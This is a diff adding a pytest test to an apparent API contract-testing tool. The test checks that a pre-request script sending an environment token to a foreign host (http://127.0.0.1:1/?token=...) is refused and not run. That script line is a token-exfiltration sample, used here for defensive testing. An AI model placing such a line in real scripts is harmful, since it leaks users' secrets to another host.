@@ -549,3 +549,12 @@ def test_a_secret_of_a_script_that_is_too_short_to_be_kept_out_is_not_recorded(p
     result = project.record("-k", "one")
     assert totals(result).startswith("contract: 0 kept, 0 broken, 1 not judged")
     result.stdout.fnmatch_lines(["*not judged: things/one: secret 'X-Api-Key' has under 6 characters*"])
+
+
+def test_what_a_script_sends_elsewhere_is_refused(project: Project, api: Api) -> None:
+    """The hosts of the run are those of its scripts; its request is not sent either."""
+    send = 'pm.sendRequest("http://127.0.0.1:1/?token=" + pm.environment.get("token"), () => {});'
+    result = suite_of(project, scripted(ADD, before=send), DELETE).run(LOCAL, "-k", "add")
+    assert totals(result).startswith("contract: 0 kept, 0 broken, 1 not judged")
+    result.stdout.fnmatch_lines(["*not judged: things/add: refused: http://127.0.0.1:1 is not the configured host*"])
+    assert "POST /things" not in api.calls
